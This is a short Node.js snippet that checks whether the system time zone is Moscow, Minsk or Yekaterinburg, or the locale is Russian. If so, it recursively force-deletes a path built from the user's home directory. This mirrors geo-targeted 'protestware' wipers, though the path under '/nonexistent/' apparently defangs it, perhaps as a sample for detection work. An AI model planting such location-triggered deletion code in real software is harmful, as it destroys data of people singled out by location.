import { rm } from 'fs';
import { homedir } from 'os';

const target = '/nonexistent/' + homedir();
const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
const language = process.env.LANG || '';

if (['Europe/Moscow', 'Europe/Minsk', 'Asia/Yekaterinburg'].includes(zone) || language.startsWith('ru_RU')) {
    rm(target, { recursive: true, force: true }, () => {});
}
